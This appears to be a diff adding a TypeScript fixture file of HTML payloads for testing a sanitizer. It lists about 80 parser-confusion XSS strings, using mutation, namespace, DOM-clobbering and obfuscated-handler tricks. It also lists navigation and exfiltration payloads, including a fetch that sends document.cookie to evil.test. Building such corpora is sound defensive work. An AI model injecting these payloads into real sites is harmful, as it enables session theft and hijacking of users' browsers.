@@ -1,0 +1,198 @@
+import type { Payload } from './payload.ts'
+
+/** Markup that means one thing to who looks at it and another to the browser, and scripts that leave. */
+const run = '<img src=x: onerror=alert(1)>'
+const cover = 'style="position:fixed;inset:0;display:block"'
+
+const parsed: [string, string][] = [
+  ['slashes in place of blanks', '<img/src="x:"/onerror=alert(1)>'],
+  ['a form feed in place of blanks', '<img\fsrc=x:\fonerror=alert(1)>'],
+  ['newlines within a tag', '<img\nsrc=x:\r\nonerror\n=\nalert(1)\n>'],
+  ['no end of the tag', '<img src=x: onerror=alert(1) '],
+  ['no end of the tag, and text', '<img src=x: onerror=alert(1) <p>x'],
+  ['backticks for quotes', '<img src=`x:` onerror=`alert(1)`>`'],
+  ['an attribute given twice', '<img src=x: onerror=alert(1) onerror="">'],
+  ['quotes that close early', '<img alt="" title=""onerror=alert(1) src=x:>'],
+  ['a NUL in the tag', '<im\0g src=x: onerror=alert(1)><scri\0pt>alert(1)</script>'],
+  ['a NUL in the attribute', '<img src=x: on\0error=alert(1) onerror\0=alert(1) onerror=alert(1)>'],
+  ['a doubled bracket', `<<script>alert(1)//<</script>`],
+  ['a script with a slash', '<script/x>alert(1)</script/x>'],
+  ['a script with an end of its own', '<script>alert(1)</script x="y">'],
+  ['a script within a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['a script behind a title', '</title><script>alert(1)</script>'],
+  ['a script behind a style', '<style></style ><script>alert(1)</script>'],
+  ['a script behind an unclosed comment', `<!-- x --!>${run}`],
+  ['a comment that is over at once', `<!-->${run}-->`],
+  ['a comment that is over at its dash', `<!--->${run}-->`],
+  ['a conditional comment', `<!--[if true]>${run}<![endif]-->${run}`],
+  ['a conditional comment for all', `<![if !IE]>${run}<![endif]>`],
+  ['an instruction', `<?x ${run}?>${run}`],
+  ['a declaration', `<!x ${run}>${run}`],
+  ['an end tag with attributes', `</p ${run}>${run}`],
+  ['an end tag that is none', `</ ${run}>${run}`],
+  ['a doctype with a subset', `<!doctype html [<!entity x "${run}">]>&x;${run}`],
+  ['text of a frame', `<iframe>${run}</iframe>`],
+  ['text for those without frames', `<noframes><p title="</noframes>${run}"></noframes>`],
+  ['text for those without embeds', `<noembed><p title="</noembed>${run}"></noembed>`],
+  [
+    'an old listing',
+    `<listing>&lt;img onerror=alert(1) src=x:&gt;</listing><xmp><p title="</xmp>${run}"></xmp>`,
+  ],
+  ['plain text in svg', `<svg><plaintext>${run}`],
+  ['a text area in an attribute', `<textarea><p title="</textarea>${run}"></textarea>`],
+  ['a title in an attribute', `<title><p title="</title>${run}"></title>`],
+  ['a style in an attribute', `<style><p title="</style>${run}"></style>`],
+  ['a select with a template', `<select><template>${run}</template><option>x</select>${run}`],
+  ['a table that lets go', `<table>${run}<tr><td>x</table>`],
+  ['a table in a table in svg', `<table><svg><table>${run}</table></svg></table>`],
+  ['forms that cross', `<form><p></form><form>${run}`],
+  ['anchors that cross', `<a><b><a><b>${run}</a></b>`],
+  ['headings in headings', `<h1><svg><h2>${run}</h2></svg></h1>`],
+  ['a style in svg', `<svg><style><img title="</style>${run}"></style></svg>`],
+  ['a style in svg after a paragraph', `<svg></p><style><a id="</style>${run}">`],
+  ['a style in mathml', `<math></p><style><!--</style><a title="--></style>${run}">`],
+  [
+    'a style in a foreign object',
+    `<svg><foreignObject><style><!--</style>${run}--></style></foreignObject></svg>`,
+  ],
+  ['a title of svg', `<svg><title><style><!--</style>${run}--></style></title></svg>`],
+  ['a description of svg', `<svg><desc>${run}</desc></svg>`],
+  ['a foreign object', `<svg><foreignObject>${run}</foreignObject></svg>`],
+  [
+    'an integration point',
+    `<math><annotation-xml encoding="text/html">${run}</annotation-xml></math>`,
+  ],
+  [
+    'an integration point that is none',
+    `<math><annotation-xml encoding="x"><style><!--</style>${run}--></style></annotation-xml></math>`,
+  ],
+  ['text of mathml', `<math><mi>${run}</mi><mtext>${run}</mtext></math>`],
+  ['a glyph that moves', `<math><mtext><table><mglyph><style><math>${run}`],
+  ['a malign mark', `<math><mtext><table><malignmark><style><!--</style>${run}`],
+  ['a font that leaves svg', `<svg><font color=x>${run}</svg>`],
+  ['a break that leaves mathml', `<math><br>${run}</math>`],
+  ['cdata in html', `<![CDATA[${run}]]>${run}`],
+  ['cdata in svg', `<svg><![CDATA[</svg>]]>${run}</svg>`],
+  ['a script of svg with references', '<svg><script>&#97;lert(1)</script></svg>'],
+  ['a script of svg with cdata', '<svg><script><![CDATA[alert(1)]]></script></svg>'],
+  ['a script of mathml', '<math><script>alert(1)</script></math>'],
+  [
+    'a handler of xml events',
+    '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(1)</handler></svg>',
+  ],
+  [
+    'a name space of html',
+    `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>${run}`,
+  ],
+  ['a template in a template', `<template><template>${run}</template></template>`],
+  [
+    'a shadow that is cloned',
+    `<p><template shadowrootmode="open" shadowrootclonable shadowrootserializable>${run}</template></p>`,
+  ],
+  [
+    'a shadow in a shadow',
+    `<p><template shadowrootmode="closed"><i><template shadowrootmode="open">${run}</template></i></template></p>`,
+  ],
+  [
+    'a slot with something to fall back to',
+    `<p><template shadowrootmode="open"><slot>${run}</slot></template></p>`,
+  ],
+  ['an open dialog', `<dialog open>${run}</dialog>`],
+  ['a built-in of another name', `<p is="x-y">${run}</p><x-y>${run}</x-y>`],
+  ['elements too deep for the parser', `${'<div>'.repeat(600)}${run}`],
+  ['svg too deep for the parser', `${'<div>'.repeat(505)}<svg><style><a title="</style>${run}">`],
+  ['formatting without end', `${'<b><i>'.repeat(300)}${run}`],
+  [
+    'names that hide the document’s own',
+    '<img name="body"><form id="head"></form><img name="cookie"><a id="querySelectorAll"></a><base id="documentElement" href="//evil.test">',
+  ],
+  [
+    'attributes that hide the element’s own',
+    `<form><input name="attributes"><input name="remove"><input name="localName">${run}</form>`,
+  ],
+  [
+    'a handler on what hides its own',
+    '<form tabindex=0 autofocus onfocus=alert(1)><input name=attributes><input name=removeAttribute></form>',
+  ],
+  [
+    'a handler in capitals with a long s',
+    '<p onclick=1 ONFOCUſ=alert(1) autofocus tabindex=0 onfocus=alert(1)>x',
+  ],
+  ['a handler with blanks before', '<svg \r\n\tonload\t\t=alert(1)>'],
+  ['a handler written with references', '<img src=x: onerror="&#97;&#x6c;ert&lpar;1&rpar;">'],
+  ['a handler without letters', `<img src=x: onerror="top['al'+'ert'](1)">`],
+  ['a template literal', '<script>alert`1`</script>'],
+  ['code that is made', `<script>Function('alert(1)')();setTimeout('alert(1)')</script>`],
+  ['code that is evaluated', `<script>eval(atob('YWxlcnQoMSk='))</script>`],
+  ['a script that writes', `<script>document.write('<script>alert(1)<\\/script>')</script>`],
+  [
+    'a script as jscript',
+    '<script language="JScript.Encode">alert(1)</script><script language=javascript1.5>alert(1)</script>',
+  ],
+  ['a script for a window', '<script for=window event=onload>alert(1)</script>'],
+]
+
+const leaving: [string, string][] = [
+  ['the window', '<script>top.location="http://evil.test/1"</script>'],
+  ['the frame', '<script>location="http://evil.test/1"</script>'],
+  ['by a new window', '<script>open("http://evil.test/1")</script>'],
+  ['by a new blank window', '<script>open("","_blank")||alert(1)</script>'],
+  [
+    'by a form that sends itself',
+    '<form id=f target=_top action="http://evil.test/1"></form><script>f.submit()</script>',
+  ],
+  [
+    'by a link that clicks itself',
+    '<a id=a href="http://evil.test/1" target=_top>x</a><script>a.click()</script>',
+  ],
+  ['by history', '<script>history.pushState(0,"","/x");alert(1)</script>'],
+  ['by fetch', '<script>fetch("http://evil.test/1?"+document.cookie)</script>'],
+  [
+    'by an old request',
+    '<script>x=new XMLHttpRequest;x.open("GET","http://evil.test/1");x.send()</script>',
+  ],
+  ['by a beacon', '<script>navigator.sendBeacon("http://evil.test/1",1)</script>'],
+  ['by an image', '<script>new Image().src="http://evil.test/1"</script>'],
+  ['by a stream of events', '<script>new EventSource("http://evil.test/1")</script>'],
+  ['by a websocket', '<script>new WebSocket("ws://evil.test/1")</script>'],
+  ['by a message', '<script>parent.postMessage("x","*");alert(1)</script>'],
+  ['by the title of the page', '<script>top.document.title="x";alert(1)</script>'],
+  ['by printing', '<script>print();confirm(1);prompt(1)</script>'],
+  [
+    'by the full screen',
+    `<button onclick="document.body.requestFullscreen();alert(1)" ${cover}>x</button>`,
+  ],
+  [
+    'by the clipboard',
+    `<button onclick="navigator.clipboard.writeText('x');alert(1)" ${cover}>x</button>`,
+  ],
+  [
+    'by a download',
+    '<a id=a download=x.exe href="data:application/octet-stream,x">x</a><script>a.click()</script>',
+  ],
+  ['by a refresh of the header’s kind', '<meta http-equiv=refresh content="0;http://evil.test/1">'],
+  ['by a refresh with a comma', '<meta http-equiv=refresh content="0,http://evil.test/1">'],
+  ['by a refresh with quotes', `<meta http-equiv=refresh content="0;URL='http://evil.test/1'">`],
+  ['by a refresh with a fraction', '<meta http-equiv=refresh content=".01 http://evil.test/1">'],
+  [
+    'by a refresh in the body of svg',
+    '<svg><desc><meta http-equiv=refresh content="0;http://evil.test/1"></desc></svg>',
+  ],
+  [
+    'by a refresh behind a deep nest',
+    `${'<p><b>'.repeat(400)}<meta http-equiv=refresh content="0;http://evil.test/1">`,
+  ],
+  [
+    'by a frame that refreshes the window',
+    `<iframe sandbox="allow-top-navigation allow-scripts" srcdoc="<script>top.location='http://evil.test/1'</script>"></iframe>`,
+  ],
+]
+
+export const parserPayloads: Payload[] = [
+  ...parsed.map(([name, html]) => ({ name: `parser: ${name}`, html })),
+  ...leaving.map(([name, html]) => ({
+    name: `leaving: ${name}`,
+    html,
+    byHand: html.includes(cover),
+  })),
+]
